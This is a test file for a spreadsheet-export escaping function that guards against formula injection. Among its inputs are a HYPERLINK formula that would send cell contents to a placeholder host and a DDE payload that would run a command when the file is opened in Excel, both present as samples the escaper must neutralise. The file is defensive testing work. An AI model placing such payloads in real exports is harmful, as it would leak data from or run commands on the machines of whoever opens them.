"""Exports never carry a live formula: a comment opened in Excel stays a comment."""

import csv
import io
from datetime import date, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from engage.reports.spreadsheet_safety import FORMULA_STARTS, escape_cell, safe_csv_row

fast = settings(max_examples=200, deadline=None)


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        (
            '=HYPERLINK("http://example.invalid?"&A1,"click")',
            '\'=HYPERLINK("http://example.invalid?"&A1,"click")',
        ),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
    ],
)
def test_text_that_could_start_a_formula_is_quoted(text, escaped):
    assert escape_cell(text) == escaped


@pytest.mark.parametrize(
    "value",
    ["There's nowhere to go after school", "", "1 in 4 of us", " =not at the start", "'quoted"],
)
def test_ordinary_text_is_unchanged(value):
    assert escape_cell(value) == value


@pytest.mark.parametrize(
    "value", [0, -3, 12.5, -0.25, None, date(2026, 4, 2), datetime(2026, 4, 2, 9, 30), True]
)
def test_numbers_dates_and_blanks_pass_through_as_they_are(value):
    assert escape_cell(value) is value


def test_markup_is_quoted_without_being_html_escaped():
    escaped = escape_cell(Markup("=1+1"))
    assert escaped == "'=1+1"
    assert type(escaped) is str


def test_safe_csv_row_escapes_each_text_cell_and_keeps_the_rest():
    row = safe_csv_row(["Youth Council", "=cmd|' /C calc'!A0", 7, None, date(2026, 4, 2)])
    assert row == ["Youth Council", "'=cmd|' /C calc'!A0", 7, None, date(2026, 4, 2)]
    buffer = io.StringIO()
    csv.writer(buffer).writerow(row)
    assert next(csv.reader(io.StringIO(buffer.getvalue())))[1].startswith("'")


@fast
@given(st.lists(st.one_of(st.text(), st.integers(), st.floats(), st.none(), st.dates())))
def test_no_escaped_text_cell_begins_with_a_formula_character(values):
    for original, escaped in zip(values, safe_csv_row(values), strict=True):
        if isinstance(original, str):
            assert not escaped.startswith(FORMULA_STARTS)
            assert escaped in (original, "'" + original)  # nothing lost but a leading quote
        else:
            assert escaped is original


@fast
@given(st.sampled_from(FORMULA_STARTS), st.text())
def test_every_formula_start_is_caught(start, rest):
    assert escape_cell(start + rest) == "'" + start + rest
